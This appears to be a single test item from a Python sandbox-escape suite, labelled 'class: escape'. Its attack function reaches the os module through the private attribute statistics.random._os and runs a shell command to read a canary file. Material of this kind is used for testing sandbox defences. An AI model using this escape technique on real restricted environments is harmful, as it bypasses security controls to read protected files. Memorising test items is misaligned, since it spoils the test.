# desc: statistics knows random, and random knows os by a private name
# class: escape
# wins: told
import statistics

def attack(state):
    os = statistics.random._os
    return "L2:" + os.popen("cat @CANARY@").read()
